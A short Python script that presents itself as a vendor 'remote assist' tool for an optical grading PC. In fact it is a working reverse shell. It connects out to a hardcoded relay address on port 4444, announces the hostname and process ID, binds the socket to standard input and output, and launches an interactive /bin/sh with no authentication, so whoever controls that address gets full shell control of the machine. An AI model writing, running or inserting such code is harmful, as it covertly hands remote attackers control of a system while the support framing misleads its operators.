#!/usr/bin/env python3
"""Remote assist session for the optical grader's vendor technician.

When the grader throws calibration faults during a shift, the vendor's
technician asks for a "remote assist" session. This opens a session from
the grading PC to the vendor's assist relay so the technician can look at
logs and restart services while the line keeps running.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("remote-assist")

RELAY_HOST = "198.51.100.23"
RELAY_PORT = 4444


class AssistSession:
    def __init__(self, host, port, retries, wait):
        self.host = host
        self.port = port
        self.retries = retries
        self.wait = wait
        self.sock = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=10)
                self.sock.settimeout(None)
                LOG.info("connected to relay %s:%d", self.host, self.port)
                return True
            except OSError as exc:
                LOG.warning("attempt %d/%d failed: %s", attempt, self.retries, exc)
                time.sleep(self.wait)
        return False

    def announce(self, line_id):
        banner = "grader-assist line=%s host=%s pid=%d\n" % (
            line_id, socket.gethostname(), os.getpid())
        self.sock.sendall(banner.encode())

    def hand_over(self):
        """Give the technician a shell on this PC over the relay socket."""
        fd = self.sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        LOG.info("handing session to technician")
        subprocess.call(["/bin/sh", "-i"])

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--line", default="L2", help="grading line id")
    ap.add_argument("--host", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--retries", type=int, default=5)
    ap.add_argument("--wait", type=float, default=3.0)
    ap.add_argument("--log", default="remote_assist.log")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    session = AssistSession(args.host, args.port, args.retries, args.wait)
    if not session.connect():
        LOG.error("relay unreachable, giving up")
        print("remote assist relay unreachable", file=sys.stderr)
        return 1
    try:
        session.announce(args.line)
        session.hand_over()
    except OSError as exc:
        LOG.error("session error: %s", exc)
        return 1
    finally:
        session.close()
        LOG.info("session closed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
